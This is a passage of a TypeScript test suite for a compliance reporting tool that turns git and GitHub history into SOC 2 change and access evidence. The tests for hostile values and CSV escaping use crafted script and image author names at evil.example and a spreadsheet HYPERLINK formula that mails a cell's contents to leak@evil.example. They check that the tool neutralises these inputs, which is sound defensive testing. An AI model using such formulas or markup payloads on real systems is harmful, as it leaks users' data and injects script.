        ["Branch", "Reconciliation"],
        ["Commit identity", "Changes it touches"],
        ["Landed (UTC)", "Change", "Kind", "Title", "Author · merged by", "Findings"],
      ]) {
        expect(raw, row.join(" | ")).toMatch(wholeWords(row.join(" ")));
      }
      // The changes table's titles fit their columns: one line holds them all.
      expect(raw.split(/[\n\f]/)).toContain("Landed (UTC) Change Kind Title Author · merged by Findings");
      expect(pdfRaw(afterRewrite.pdf)).toMatch(
        wholeWords(
          [
            "Repository",
            "Branch",
            "Old tip (dropped)",
            "New tip (replacement)",
            "Commits dropped",
            "Happened between",
            "Run",
          ].join(" "),
        ),
      );
    });

    it("shows the sections of the report in order, each on the page the contents gives", () => {
      const pages = pagesOf(pdfRaw(gitOnly.pdf));
      // A heading is a line of its own.
      const pageOf = (h: string): number => pages.findIndex((p) => p.split("\n").includes(h)) + 1;
      const sections = [
        "How the evidence was produced",
        "Summary per SOC 2 criterion",
        "Exceptions with their evidence",
        "Accepted exceptions and overdue reviews",
        "Deployments and what each introduced",
        "Access review",
        "Separation of duties",
        "The rules, as the code applies them",
        "Appendix: the change population",
      ];
      const contents = pages[1] ?? "";
      expect(contents.split("\n")).toContain("Contents");
      const at = sections.map(pageOf);
      expect(
        at.every((p) => p > 2),
        String(at),
      ).toBe(true);
      expect(at).toEqual([...at].sort((a, b) => a - b));
      // The contents' number for each section is the page it starts on.
      for (const [i, name] of sections.entries()) expect(contents).toContain(`${name} ${at[i]}`);
      // What a section holds comes after its start and before the next section's.
      const within = (h: string, from: number): number =>
        pages.findIndex((p, i) => i + 1 >= from && p.split("\n").includes(h)) + 1;
      const [access, duties, rules, appendix] = [at[5] ?? 0, at[6] ?? 0, at[7] ?? 0, at[8] ?? 0];
      expect(within("Identities that resolve to nobody", access)).toBeGreaterThanOrEqual(access);
      expect(within("Identities that resolve to nobody", access)).toBeLessThanOrEqual(duties);
      expect(within("C1: Reviewed by someone independent, on the final commit", rules)).toBeLessThan(appendix);
      expect(within(`${REPO} · main: ${IN_PERIOD} changes`, appendix)).toBeGreaterThanOrEqual(appendix);
    });

    it("cuts a title longer than a page, says where the rest is, and numbers every page", async () => {
      const rows = structuredClone(gitOnly.report.changes);
      const target = rows[5];
      if (!target) throw new Error("no sixth change");
      target.title = `HUGE-START ${"word ".repeat(3000)}HUGE-END`;
      const pdf = path.join(root, "huge.pdf");
      await renderReportPdf(gitOnly.report.model, memoryPopulations(rows, gitOnly.report.findings), pdf);
      const text = pdfText(pdf);
      checkPageFooters(pdf, gitOnly.report.title, text);
      expect(text).toContain("HUGE-START");
      expect(text).not.toContain("HUGE-END");
      expect(squash(text)).toContain(squash("more characters in the JSON files"));
    });

    // A row taller than a page would run off it and scatter its cells over several pages.
    it("keeps a change's id and author on the same page however long its title", async () => {
      const rows = structuredClone(gitOnly.report.changes);
      const target = rows[5];
      if (!target) throw new Error("no sixth change");
      target.title = `HUGE-START ${"word ".repeat(3000)}HUGE-END`;
      // Names found nowhere else in the report (its real author is also listed among the
      // identities), short enough not to wrap.
      target.author = "Rowena <ro@x.example>";
      target.mergedBy = "Quentin <qu@x.example>";
      target.verdicts = [...target.verdicts, { rule: "C99", verdict: "FINDINGS-CELL-END", reason: "" }];
      const sha = target.commits[0]?.slice(0, 12) ?? "";
      expect(sha).toHaveLength(12);
      const pdf = path.join(root, "huge-row.pdf");
      await renderReportPdf(gitOnly.report.model, memoryPopulations(rows, gitOnly.report.findings), pdf);
      const pages = pagesOf(pdfText(pdf));
      const idPages = pages.flatMap((p, i) => (p.includes(sha) ? [i] : []));
      // The id in the Changes table (its findings and its identities elsewhere name it too).
      const rowPage = idPages.find((i) => pages[i]?.includes("HUGE-START"));
      expect(rowPage).toBeDefined();
      const page = pages[rowPage ?? -1] ?? "";
      expect(page).toContain("Rowena <ro@x.example>");
      expect(page).toContain("Quentin <qu@x.example>");
      // Its findings cell too, to its end.
      expect(page).toContain("FINDINGS-CELL-END");
    });

    it("has the report's metadata", () => {
      const info = tool("pdfinfo", [gitOnly.pdf]);
      expect(info).toMatch(/^Title:\s+Change log 2026Q3$/m);
      expect(info).toMatch(/^Subject:\s+Change management and access evidence, period 2026Q3$/m);
    });
  });

  describe("populations and manifest", () => {
    it("lists every first-parent commit of the period as one change, and nothing else", () => {
      const rows = gitOnly.changes.changes;
      expect(rows.map((c) => c.id)).toEqual(hostile.inPeriod.map((sha) => `${REPO}@${sha}`));
      expect(rows.map((c) => c.commits)).toEqual(hostile.inPeriod.map((sha) => [sha]));
      expect(gitOnly.changes.rules).toEqual(["C1", "C2", "C3", "C4", "C5", "C6", "C7", "C11", "C12"]);
      expect(gitOnly.changes.period).toMatchObject({
        label: PERIOD,
        from: "2026-07-01T00:00:00.000Z",
        to: "2026-10-01T00:00:00.000Z",
      });
      // Without GitHub's data nothing can be told apart, the pull request's merge commit included,
      // and a "(#7)" in a subject, which anyone can write, makes no pull request.
      for (const c of rows) {
        expect(c, c.id).toMatchObject({
          repo: REPO,
          branch: "main",
          alsoOn: [],
          kind: "unknown",
          kindLabel: "unknown (GitHub's data missing)",
          url: null,
          pullRequest: null,
          protection: null,
          droppedAt: null,
        });
        const blocked = `GitHub was not collected for ${REPO}: whether a pull request landed ${c.commits[0]?.slice(0, 12)} cannot be shown`;
        // C12 judges only an automation's changes to a GitOps repository.
        expect(c.verdicts.find((v) => v.rule === "C12")?.verdict).toBe("n/a");
        for (const v of c.verdicts.filter((x) => x.rule !== "C11" && x.rule !== "C12")) {
          expect(v, `${c.id} ${v.rule}`).toEqual({ rule: v.rule, verdict: "blocked", reason: blocked });
        }
        expect(c.verdicts.find((v) => v.rule === "C11")?.verdict).toBe("exception");
        expect(c.exceptions).toEqual([
          ...["C1", "C2", "C3", "C4", "C5", "C6", "C7"].map((r) => `${r} blocked`),
          "C11 exception",
        ]);
      }
      expect(byTitle(gitOnly, MERGE_SUBJECT).commits).toEqual([hostile.merge]);
      expect(gitOnly.report.totals).toEqual({
        changes: IN_PERIOD,
        pullRequests: 0,
        directPushes: 0,
        unknown: IN_PERIOD,
        dropped: 0,
        rewrites: 0,
        // Eight findings per change, and P1's exception for each gap (GitHub was not collected).
        findings: IN_PERIOD * 8 + gitOnly.report.coverage.gaps.length,
      });
      expect(gitOnly.report.coverage.gaps.length).toBeGreaterThan(0);
      checkPopulations(gitOnly);
      checkPopulations(withGap);
      checkPopulations(quiet);
      checkPopulations(afterRewrite);
      expect(quiet.changes.changes).toEqual([]);
      expect(quiet.findings.findings).toEqual([]);
    });

    it("keeps the hostile values as data", () => {
      expect(byTitle(gitOnly, LONG_SUBJECT).author).toBe(ident(cjkPerson2));
      expect(byTitle(gitOnly, CRAFTED_SUBJECT)).toMatchObject({
        author: `${SCRIPT} <script@evil.example>`,
        mergedBy: `${IMG} <img@evil.example>`,
      });
      expect(byTitle(gitOnly, TEMPLATE_SUBJECT).author).toBe(ident(ctorPerson));
      expect(byTitle(gitOnly, MERGE_SUBJECT)).toMatchObject({ author: ident(alice), mergedBy: ident(GITHUB_WEB) });
      const coAuthored = byTitle(gitOnly, `${EMOJI} Deploy ${CJK2} ${CYRILLIC}`);
      expect(coAuthored.author).toBe(ident(cjkPerson));
      // Co-authors are in the population as identities (they resolve to nobody here) and in C11.
      expect(gitOnly.findings.unresolvedIdentities).toContainEqual({
        identity: `${SCRIPT} <co@evil.example>`,
        changes: [coAuthored.id],
      });
      expect(coAuthored.verdicts.find((v) => v.rule === "C11")?.reason).toContain(
        `by unknown author ${SCRIPT} <co@evil.example>`,
      );
    });

    // CSV injection (OWASP): a cell starting with = + - @ is a formula to a spreadsheet.
    it("escapes formulas in the CSV populations", () => {
      const c = byTitle(gitOnly, FORMULA);
      expect(c.author).toBe(ident(formulaPerson));
      const [head, ...rows] = gitOnly.changesCsv;
      const col = (name: string): number => head?.indexOf(name) ?? -1;
      const row = rows.find((r) => r[0] === c.id);
      expect(row?.[col("title")]).toBe(`'${FORMULA}`);
      expect(row?.[col("author")]).toBe(`'${ident(formulaPerson)}`);
      expect(c.mergedBy).toBe(ident(formulaPerson));
      expect(row?.[col("merged_by")]).toBe(`'${ident(formulaPerson)}`);
      // Every other cell is the JSON population's value as it is.
      for (const [i, ch] of gitOnly.changes.changes.entries()) {
        const r = rows[i] ?? [];
        expect(r[col("title")]?.replace(/^'(?=[=@])/, "")).toBe(ch.title);
        expect(r[col("author")]?.replace(/^'(?=[=@])/, "")).toBe(ch.author);
        expect(r[col("merged_by")]?.replace(/^'(?=[=@])/, "")).toBe(ch.mergedBy);
        expect(r[col("kind")]).toBe("unknown");
        expect(r[col("commits")]).toBe(ch.commits.join(" "));
        expect(r[col("C7")]).toBe("blocked");
        expect(r[col("C11")]).toBe("exception");
      }
      const raw = readFileSync(path.join(gitOnly.dir, "changes.csv"), "utf8");
      expect(raw).toContain(`"'=HYPERLINK(""mailto:leak@evil.example?body=""&A1,""Open the release notes"")"`);
      expect(raw).not.toMatch(/(^|,)=HYPERLINK/m);
      // Its findings name it; the reason naming its author starts with the commit id, not "@".
      expect(gitOnly.findingsCsv.filter((r) => r[3] === c.id)).toHaveLength(8);
    });

    it("records the SHA-256 and size of every file it wrote", () => {
      for (const w of all()) checkManifest(w);
    });
  });

  describe("history rewrite", () => {
    it("has no rewrite section before the branch was force-moved", () => {
      expect(gitOnly.report.rewrites).toEqual([]);
      expect(gitOnly.html).not.toContain("History rewrites on protected branches");
      expect(gitOnly.pdfText).not.toContain("History rewrites on protected branches");
      expect(gitOnly.findings.findings.filter((f) => f.rule === "C8")).toEqual([]);
    });

    it("shows the rewrite, its tips and the dropped changes after a force-move between collections", () => {
      const r = afterRewrite.report;
      expect(r.rewrites).toHaveLength(1);
      expect(r.rewrites[0]).toMatchObject({
        repo: REPO,
        branch: "main",
        oldTip: rewrite.oldTip,
        newTip: rewrite.newTip,
        oldTipPresent: true,
        notBefore: "2026-10-01T06:00:00.000Z",
        observedAt: "2026-10-01T07:00:00.000Z",
      });
      // The post-period commit was dropped too, but only the period's two are in this report.
      expect(r.rewrites[0]?.droppedCommits).toBe(3);
      expect(r.totals).toMatchObject({ rewrites: 1, dropped: 2, changes: IN_PERIOD });
      // Dropped changes stay in the population, marked.
      const dropped = afterRewrite.changes.changes.filter((c) => c.droppedAt !== null);
      expect(dropped.map((c) => c.id)).toEqual(rewrite.dropped.map((sha) => `${REPO}@${sha}`));
      for (const c of dropped) expect(c.droppedAt).toBe("2026-10-01T07:00:00.000Z");
      expect(afterRewrite.changes.changes.map((c) => c.id)).toEqual(hostile.inPeriod.map((sha) => `${REPO}@${sha}`));
      const csvDropped = afterRewrite.changesCsv.slice(1).filter((row) => row[10] !== "");
      expect(csvDropped.map((row) => [row[0], row[10]])).toEqual(dropped.map((c) => [c.id, c.droppedAt]));
      // C8 judges the branch.
      expect(afterRewrite.findings.findings.filter((f) => f.rule === "C8")).toMatchObject([
        { verdict: "rewrite", subject: { kind: "branch", id: `${REPO}:main` } },
      ]);

      expect(afterRewrite.html).toContain("<h2>History rewrites on protected branches</h2>");
      expect(afterRewrite.html).toContain(rewrite.oldTip.slice(0, 12));
      expect(afterRewrite.html).toContain(rewrite.newTip.slice(0, 12));
      expect(
        afterRewrite.pages.match(/dropped from the branch by a history rewrite observed 2026-10-01T07:00:00.000Z/g),
      ).toHaveLength(2);
      expect(tableRows(afterRewrite, "changes").filter((r) => r[1] === "kind-unknown dropped")).toHaveLength(2);
      expect(afterRewrite.html).toMatch(/<h2>Summary<\/h2>[\s\S]*?by a history rewrite<\/th><td class="num">2</);
      expect(afterRewrite.pdfText).toContain("History rewrites on protected branches");
      expect(afterRewrite.pdfText).toContain(rewrite.oldTip.slice(0, 12));
      expect(afterRewrite.pdfText).toContain(rewrite.newTip.slice(0, 12));
      expect(squash(afterRewrite.pdfText)).toContain(
        squash("Changes later dropped from their branch by a rewrite: 2; history rewrites observed: 1"),
      );
      // Cells wrap: read the PDF in drawing order, where a cell's lines follow each other.
      expect(
        squash(pdfRaw(afterRewrite.pdf)).split(
          squash("DROPPED from the branch by a rewrite observed 2026-10-01T07:00:00.000Z"),
        ),
      ).toHaveLength(3);
    });

    // The replacement is dated inside the period, but the read at 06:00 did not see it: it landed
    // when it was first seen, after the period, whatever its committer date says.
    it("puts the replacement in the period it was first seen in, not the one its date claims", () => {
      const id = `${REPO}@${rewrite.newTip}`;
      expect(afterRewrite.changes.changes.map((c) => c.id)).not.toContain(id);
      const q4 = buildHeldReport(db, parsePeriod("2026Q4"), [REPO], d("2027-01-02T00:00:00Z"));
      expect(q4.changes.find((c) => c.id === id)).toMatchObject({
        title: "Replacement for the dropped changes",
        landedAt: "2026-10-01T07:00:00.000Z",
        droppedAt: null,
      });
      expect(q4.changes.find((c) => c.id === id)?.landedBy).toContain("2026-09-14T12:00:00.000Z");
    });
  });
});

// ---------------------------------------------------------------------------------------------
// The demo organisation

/*
 * `changeproof demo`'s pipeline in this process: git, GitHub (the fake, on loopback) and the
 * cluster collected twice around the GitOps force push, then the report. The demo's story (which
 * pull request gets which verdict) changes as the demo grows: these tests assert what holds for
 * any story, not its details.
 */

const CHANGE_RULES = ["C1", "C2", "C3", "C4", "C5", "C6", "C7", "C11", "C12"];
const PR_KINDS: ChangeKind[] = ["merge-commit", "squash", "rebase"];
const KINDS: ChangeKind[] = [...PR_KINDS, "not-on-branch", "direct-push", "unknown"];

describe("change-log report of the demo organisation", () => {
  const root = tempDir("changeproof-demo-report-");
  let w: Written;
  let gitopsDir: string;

  beforeAll(async () => {
    const lines: string[] = [];
    const result = await runDemo({
      output: root,
      log: silentLogger,
      out: (l) => lines.push(l),
      now: () => new Date(),
    });
    expect(result.files).toHaveLength(14);
    gitopsDir = path.join(root, "demo", "org", "repos", "platform-gitops");
    // The model behind the files, rebuilt from the demo's store as `report` builds it.
    const generatedAt = (JSON.parse(readFileSync(path.join(result.dir, "changes.json"), "utf8")) as ChangesFile)
      .generatedAt;
    const db = openStore(path.join(root, "demo", "changeproof.db"), { readonly: true });
    try {
      const report = buildHeldReport(
        db,
        parsePeriod(DEMO_PERIOD),
        ["acme/payments-api", "acme/platform-gitops"],
        d(generatedAt),
        { githubOrg: "acme", clusters: ["prod"] },
        {
          people: [],
          // The demo's register, as its config names it.
          exceptions: loadExceptionsRegister(path.join(root, "demo", "org", "exceptions.yaml"), [
            "acme/payments-api",
            "acme/platform-gitops",
          ]),
          images: new Map([["acme/payments-api", [PAYMENTS_IMAGE]]]),
        },
      );
      w = readWritten(report, result.dir);
    } finally {
      db.close();
    }
  });

  const git = (args: readonly string[]): string =>
    execFileSync("git", ["-C", gitopsDir, ...args], { encoding: "utf8" }).trim();

  it("states the model's counts in the PDF, and draws its pictures (pages rendered with pdftoppm)", () => {
    const raw = pdfRaw(w.pdf);
    const text = squash(raw);
    const t = w.report.totals;
    expect(text).toContain(
      squash(
        `Changes on protected branches: ${t.changes}; findings: ${t.findings}; deployments: ${w.report.deployments.deployments.length}`,
      ),
    );
    for (const r of w.report.rules) {
      const counts = Object.entries(r.counts)
        .map(([v, n]) => `${v}: ${n}`)
        .join(" · ");
      expect(text, r.id).toContain(squash(counts));
    }
    // Pixels of a rendered page: the weekly chart's bars on the summary page, the timeline's
    // deployments (green) and lost history (pink) on the deployments page.
    const pages = pagesOf(raw);
    const pageWith = (h: string): number => pages.findIndex((p) => p.split("\n").includes(h)) + 1;
    const pixels = (page: number, rgb: [number, number, number]): number => {
      const prefix = path.join(w.dir, "..", `page-${page}`);
      tool("pdftoppm", ["-f", String(page), "-l", String(page), "-r", "40", "-singlefile", w.pdf, prefix]);
      const ppm = readFileSync(`${prefix}.ppm`);
      // P6 <width> <height> 255, then RGB bytes.
      const header = /^P6\s+(\d+)\s+(\d+)\s+255\s/.exec(ppm.subarray(0, 40).toString("latin1"));
      expect(header).not.toBeNull();
      const start = header?.[0].length ?? 0;
      let n = 0;
      for (let i = start; i + 2 < ppm.length; i += 3) {
        if (
          Math.abs((ppm[i] ?? 0) - rgb[0]) +
            Math.abs((ppm[i + 1] ?? 0) - rgb[1]) +
            Math.abs((ppm[i + 2] ?? 0) - rgb[2]) <
          30
        )
          n++;
      }
      return n;
    };
    expect(pixels(pageWith("Summary per SOC 2 criterion"), [0x2d, 0xa4, 0x4e])).toBeGreaterThan(20);
    const deployments = pageWith("Deployments and what each introduced");
    expect(pixels(deployments, [0x2d, 0xa4, 0x4e])).toBeGreaterThan(5);
    expect(pixels(deployments, [0xff, 0xb3, 0xb3])).toBeGreaterThan(20);
  });

  it("writes the populations and manifest of the model it reports", () => {
    checkPopulations(w);
    // The demo's register: two findings accepted, one review overdue, nothing unmatched.
    expect(w.findings.findings.filter((f) => f.accepted).map((f) => `${f.subject.id} ${f.rule}`)).toEqual([
      "acme/platform-gitops#12 C1",
      "acme/payments-api#4 C2",
    ]);
    expect(w.findings.findings.filter((f) => f.rule === "register").map((f) => `${f.subject.id} ${f.verdict}`)).toEqual(
      ["acme/platform-gitops#12 overdue"],
    );
    checkManifest(w);
    checkPageFooters(w.pdf, w.report.title, w.pdfText);
  });

  it("writes the access review (access.json/csv) and shows it in the HTML and the PDF", () => {
    const access = JSON.parse(readFileSync(path.join(w.dir, "access.json"), "utf8")) as {
      snapshots: { id: number; takenAt: string }[];
      verdicts: { rule: string; verdict: string; subject: { id: string }; reason: string }[];
    };
    expect(access.snapshots.length).toBeGreaterThan(0);
    expect([...new Set(access.verdicts.map((v) => v.rule))]).toEqual(["A1", "A2", "A3", "A4"]);
    expect(access.verdicts).toEqual(w.report.access.verdicts);
    const csv = parseCsv(readFileSync(path.join(w.dir, "access.csv"), "utf8"));
    expect(csv[0]).toEqual(parseCsv(readFileSync(path.join(w.dir, "findings.csv"), "utf8"))[0]);
    expect(csv.slice(1).map((r) => `${r[0]} ${r[1]} ${r[3]}`)).toEqual(
      access.verdicts.map((v) => `${v.rule} ${v.verdict} ${v.subject.id}`),
    );
    // Every access finding is among the report's findings; passes are not.
    const findings = new Set(w.findings.findings.map((f) => `${f.rule} ${f.subject.id} ${f.reason}`));
    for (const v of access.verdicts) {
      expect(findings.has(`${v.rule} ${v.subject.id} ${v.reason}`), v.reason).toBe(v.verdict !== "pass");
    }
    expect(w.html).toContain('<h2 id="access">Access review</h2>');
    expect(w.html).toContain("dave is an outside collaborator with WRITE on acme/payments-api");
    expect(w.pdfText).toContain("Access review");
    expect(w.pdfText.replace(/\s+/g, " ")).toContain("dave is an outside collaborator with WRITE on");
  });

  it("reconciles each protected branch with git: the command in coverage.json recounts what the report says", () => {
    const coverage = JSON.parse(readFileSync(path.join(w.dir, "coverage.json"), "utf8")) as {
      complete: boolean;
      gaps: string[];
      reconciliation: {
        repo: string;
        branch: string;
        gitCount: number;
        byPullRequests: number;
        byPushes: number;
        otherPeriods: number;
        command: string;
      }[];
    };
    expect(coverage.gaps).toEqual(w.report.coverage.gaps);
    expect(coverage.complete).toBe(coverage.gaps.length === 0);
    expect(coverage.reconciliation.map((r) => `${r.repo}:${r.branch}`)).toEqual([
      "acme/payments-api:main",
      "acme/platform-gitops:main",
    ]);
    for (const r of coverage.reconciliation) {
      const clone = path.join(root, "demo", "org", "repos", r.repo.split("/")[1] ?? "");
      const [cmd = "", ...args] = r.command.split(" ");
      const counted = Number(execFileSync(cmd, ["-C", clone, ...args], { encoding: "utf8" }).trim());
      expect(counted, r.command).toBe(r.gitCount);
      expect(r.byPullRequests + r.byPushes + r.otherPeriods, r.repo).toBe(r.gitCount);
    }
    // The commit the force push put on GitOps main is dated in the quarter but first seen after it.
    expect(coverage.reconciliation[1]?.otherPeriods).toBe(1);
    expect(w.findings.findings.filter((f) => f.rule === "P1").map((f) => f.verdict)).toContain("note");
    expect(w.html).toContain('<h2 id="reconciliation">Population reconciliation</h2>');
    expect(w.pdfText).toContain("Population reconciliation");
    // The weekly picture, in both: the PDF draws its bars as vectors, with the legend as text.
    expect(w.html).toContain('<h2 id="weekly">Changes per week, by review</h2>');
    expect(w.pdfText).toContain("Changes per week, by review");
    expect(w.html).toContain('<h3 id="collection">');
    // P1: every run the report used, with what it read, its parameters and what it counted.
    const used = JSON.parse(readFileSync(path.join(w.dir, "coverage.json"), "utf8")) as {
      runsUsed: number[];
      runs: { id: number; source: string; parameters: string; counts: string | null }[];
    };
    expect(used.runs.map((r) => r.id)).toEqual([...used.runsUsed].sort((a, b) => a - b));
    expect(used.runs.every((r) => r.parameters.startsWith("{"))).toBe(true);
    expect(w.pdfText).toContain("The runs this report used");
    expect(w.html).toContain('<table class="runs">');
    expect(squash(w.pdfText)).toContain(
      squash("When each cluster was read, against how often its history turned over"),
    );
    expect(w.pdfText).toMatch(/automated deployment\s+manual sync\s+rollback\s+unexplained \(C9\)/);
    expect(w.pdfText).toMatch(/reviewed\s+not reviewed\s+direct push\s+blocked \(data missing\)/);
  });

  it("writes the separation-of-duties matrix (people.json/csv) and shows it in the HTML and the PDF", () => {
    const people = (
      JSON.parse(readFileSync(path.join(w.dir, "people.json"), "utf8")) as {
        people: { name: string; authored: number; conflicts: { kind: string; subject: string }[] }[];
      }
    ).people;
    expect(people).toEqual(JSON.parse(JSON.stringify(w.report.people)));
    expect(people.find((p) => p.name === "bob")?.conflicts).toContainEqual({
      kind: "self-approved",
      subject: "acme/payments-api#4",
    });
    const csv = parseCsv(readFileSync(path.join(w.dir, "people.csv"), "utf8"));
    expect(csv[0]?.slice(0, 4)).toEqual(["person", "key", "service", "authored"]);
    expect(csv.slice(1).map((r) => r[0])).toEqual(people.map((p) => p.name));
    expect(w.html).toContain('<h2 id="people">Separation of duties</h2>');
    expect(w.html).toContain("authored and sole-approved acme/payments-api#4");
    expect(w.pdfText).toContain("Separation of duties");
    // S1's verdicts are counted and its exceptions listed among the findings.
    expect(w.findings.findings.filter((f) => f.rule === "S1").map((f) => f.subject.id)).toContain("bob");
  });

  it("judges every change: GitHub was collected, so no change is unknown and no gap says so", () => {
    expect(w.report.totals.unknown).toBe(0);
    expect(w.report.coverage.gaps.filter((g) => g.includes("cannot be judged"))).toEqual([]);
    expect(w.report.coverage.gaps.filter((g) => /acme\/(payments-api|platform-gitops)/.test(g))).toEqual([]);
    expect(w.report.coverage.ledger.intact).toBe(true);
    expect(w.report.coverage.ledger.sealed).toBeGreaterThan(0);
  });

  it("lists each change once, with one verdict per change rule and a valid kind", () => {
    const rows = w.changes.changes;
    expect(rows.length).toBeGreaterThan(0);
    expect(new Set(rows.map((c) => c.id)).size).toBe(rows.length);
    // A commit lands in one change only.
    const commits = rows.flatMap((c) => c.commits.map((sha) => `${c.repo}@${sha}`));
    expect(new Set(commits).size).toBe(commits.length);
    expect(w.changes.rules).toEqual(CHANGE_RULES);
    for (const c of rows) {
      expect(
        c.verdicts.map((v) => v.rule),
        c.id,
      ).toEqual(CHANGE_RULES);
      for (const v of c.verdicts) expect(v.reason, `${c.id} ${v.rule}`).not.toBe("");
      expect(KINDS, c.id).toContain(c.kind);
      const at = Date.parse(c.landedAt);
      expect(at >= Date.parse(w.report.period.from) && at < Date.parse(w.report.period.to), c.id).toBe(true);
    }
    // The demo shows every way a change lands.
    expect(new Set(rows.map((c) => c.kind))).toEqual(new Set([...PR_KINDS, "direct-push"]));
    const counts = w.report.totals;
    expect(counts.pullRequests + counts.directPushes).toBe(counts.changes);
  });

  it("shows merged pull requests as merge-commit, squash or rebase, passing C7", () => {
    const prs = w.changes.changes.filter((c) => c.pullRequest !== null);
    expect(prs.length).toBe(w.report.totals.pullRequests);
    for (const c of prs) {
      expect(PR_KINDS, c.id).toContain(c.kind);
      expect(c.id).toBe(`${c.repo}#${c.pullRequest?.number}`);
      expect(c.url).toBe(`https://github.com/${c.repo}/pull/${c.pullRequest?.number}`);
      expect(
        c.verdicts.find((v) => v.rule === "C7"),
        c.id,
      ).toMatchObject({ verdict: "pass" });
      expect(c.exceptions, c.id).not.toContain("C7 direct-push");
      expect(c.commits.length, c.id).toBeGreaterThan(0);
      if (c.kind === "squash") expect(c.commits, c.id).toHaveLength(1);
      // Linked to GitHub from its page, without the browser sending the report's address.
      expect(changePage(w, c.id)).toContain(`<a href="${c.url}" rel="noreferrer">`);
    }
  });

  it("shows direct pushes as kind direct-push with C7 direct-push and the review rules n/a", () => {
    const pushes = w.changes.changes.filter((c) => c.kind === "direct-push");
    expect(pushes.length).toBe(w.report.totals.directPushes);
    expect(pushes.length).toBeGreaterThan(0);
    for (const c of pushes) {
      expect(c.pullRequest).toBeNull();
      expect(c.commits).toHaveLength(1);
      expect(c.id).toBe(`${c.repo}@${c.commits[0]}`);
      expect(c.url).toBeNull();
      expect(c.author).toMatch(/ <[^<>]+@[^<>]+>$/);
      const verdict = (rule: string) => c.verdicts.find((v) => v.rule === rule)?.verdict;
      expect(verdict("C7"), c.id).toBe("direct-push");
      expect(verdict("C1"), c.id).toBe("n/a");
      for (const rule of ["C2", "C3", "C4", "C5", "C6"]) expect(verdict(rule), `${c.id} ${rule}`).toBe("n/a");
      expect(c.exceptions).toContain("C7 direct-push");
      expect(w.findings.findings).toContainEqual(
        expect.objectContaining({ rule: "C7", verdict: "direct-push", subject: { kind: "change", id: c.id } }),
      );
    }
    const shown = tableRows(w, "changes").filter((r) => String(r[1]).startsWith("kind-direct-push"));
    expect(shown.map((r) => [r[2], r[6]])).toEqual(pushes.map((c) => [c.id, "direct push"]));
  });

  it("renders one row per change in the HTML table's data and the PDF, each linked to its page", () => {
    const rows = w.changes.changes;
    const shown = tableRows(w, "changes");
    expect(shown.map((r) => r[2])).toEqual(rows.map((c) => c.id));
    expect(shown.map((r) => r[0])).toEqual(rows.map((c) => pageOf("change", c.id)));
    for (const c of rows) expect(changePage(w, c.id)).toContain(`<h1 class="id">${c.id}</h1>`);
    // Cells wrap: read the PDF in drawing order, where a cell's lines follow each other.
    const text = squash(pdfRaw(w.pdf));
    for (const c of rows) expect(text, c.id).toContain(squash(c.id));
  });

  it("links only to its own pages and to GitHub, and loads nothing from outside the folder", () => {
    for (const [, url] of w.html.matchAll(/\shref="([^"]*)"/g))
      expect(url).toMatch(/^([a-z0-9/._-]+\.(html|csv|json|pdf|css)(#[a-z]+)?|data:,)$/);
    const outside = [...w.pages.matchAll(/<a href="(https?:[^"]*)"( rel="noreferrer")?>/g)];
    expect(outside.length).toBeGreaterThan(0);
    for (const [, url, rel] of outside) {
      expect(url).toMatch(/^https:\/\/github\.com\/acme\/[a-z-]+\/(pull\/\d+|commit\/[0-9a-f]{40})$/);
      expect(rel, url).toBe(' rel="noreferrer"');
    }
    expect(`${w.html}${w.pages}`).not.toMatch(/\s(action|srcset)=/i);
    expect(`${w.html}${w.pages}`).not.toMatch(/url\(/i);
  });

  it("shows exactly one rewrite, on acme/platform-gitops main, and marks the change it dropped", () => {
    const r = w.report;
    expect(r.rewrites).toHaveLength(1);
    const rw = r.rewrites[0];
    expect(rw).toMatchObject({ repo: "acme/platform-gitops", branch: "main", oldTipPresent: true });
    expect(rw?.newTip).toBe(git(["rev-parse", "main"]));
    expect(r.totals.rewrites).toBe(1);
    expect(w.findings.findings.filter((f) => f.rule === "C8")).toMatchObject([
      { verdict: "rewrite", subject: { kind: "branch", id: "acme/platform-gitops:main" } },
    ]);

    const dropped = w.changes.changes.filter((c) => c.droppedAt !== null);
    expect(dropped.length).toBeGreaterThan(0);
    expect(r.totals.dropped).toBe(dropped.length);
    for (const c of dropped) {
      expect(c).toMatchObject({ repo: "acme/platform-gitops", branch: "main" });
      // Dropped by the rewrite the second collection observed.
      expect(c.droppedAt).toBe(rw?.observedAt);
      // Its commits are no longer on the branch.
      for (const sha of c.commits) {
        expect(() => git(["merge-base", "--is-ancestor", sha, "main"]), sha).toThrow();
      }
    }
    expect(dropped.flatMap((c) => c.commits)).toContain(rw?.oldTip);
    expect(tableRows(w, "changes").filter((r) => / dropped$/.test(String(r[1])))).toHaveLength(dropped.length);
    const rows = /<h2>History rewrites on protected branches<\/h2>[\s\S]*?<tbody>([\s\S]*?)<\/tbody>/.exec(w.html);
    expect(rows?.[1]?.match(/<tr>/g)).toHaveLength(1);
    expect(rows?.[1]).toContain("acme/platform-gitops");
    expect(squash(w.pdfText)).toContain(squash("history rewrites observed: 1"));
    expect(squash(w.pdfText)).toContain(
      squash(`Changes later dropped from their branch by a rewrite: ${dropped.length}`),
    );
  });
});
